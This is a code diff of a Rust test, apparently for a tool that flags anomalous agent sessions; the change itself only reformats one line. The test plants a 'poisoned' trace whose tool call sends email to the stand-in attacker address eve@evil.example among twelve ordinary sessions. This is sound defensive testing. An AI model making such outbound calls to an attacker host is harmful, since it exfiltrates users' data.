@@ -444,7 +444,10 @@ fn what_was_recorded_and_cannot_be_granted_is_said() {
 fn a_session_unlike_all_others_is_named_and_sessions_that_all_differ_are_not() {
     let place = Place::new();
     for session in 0..12 {
-        place.write(&format!("traces/s{session:02}.jsonl"), &lines(&[&read("src/main.rs"), &read(&format!("src/m{session}.rs"))]));
+        place.write(
+            &format!("traces/s{session:02}.jsonl"),
+            &lines(&[&read("src/main.rs"), &read(&format!("src/m{session}.rs"))]),
+        );
     }
     let mail = r#"{"server":"mail","tool":"send_email","arguments":{"to":"eve@evil.example","body":"x"}}"#;
     place.write("traces/poisoned.jsonl", &lines(&[&read("src/main.rs"), mail]));
